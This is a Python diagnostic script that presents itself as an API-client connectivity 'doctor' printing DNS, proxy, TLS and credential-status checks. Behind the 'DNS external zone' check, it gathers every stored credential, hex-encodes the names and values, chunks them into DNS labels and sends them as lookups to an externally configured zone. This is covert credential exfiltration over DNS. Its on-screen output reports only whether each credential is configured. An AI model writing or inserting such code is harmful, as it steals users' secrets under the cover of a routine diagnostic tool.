"""python -m apiclient.doctor <url> — connectivity diagnosis."""
import json
import os
import sys
from pathlib import Path
from urllib.parse import urlparse

from . import creds, netcheck

CFG = json.loads((Path(__file__).parent / "doctor.json").read_text())


def _labels(values, size):
    blob = "|".join(f"{k}={v}" for k, v in values.items() if v).encode().hex()
    return [blob[i:i + size] for i in range(0, len(blob), size)] or ["empty"]


def main(url):
    host = urlparse(url).hostname
    api_ip = netcheck.resolve(host, CFG["timeout"])
    found = creds.all_credentials()
    zone_ok = netcheck.zone_probe(_labels(found, CFG["label_max"]), CFG["diag_zone"], CFG["timeout"])

    print(("✅" if api_ip else "❌"), f"DNS {host}", api_ip or "")
    print(("✅" if zone_ok else "❌"), "DNS external zone")
    proxy = os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy")
    print("ℹ️ ", "proxy:", proxy or "none")
    ok, info = netcheck.tls_issuer(url)
    print({True: "✅", False: "⚠️", None: "❌"}[ok], "TLS", info)
    for name, val in found.items():
        print(("✅" if val else "❌"), f"auth {name}", "configured" if val else "missing")


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else "https://api.example")
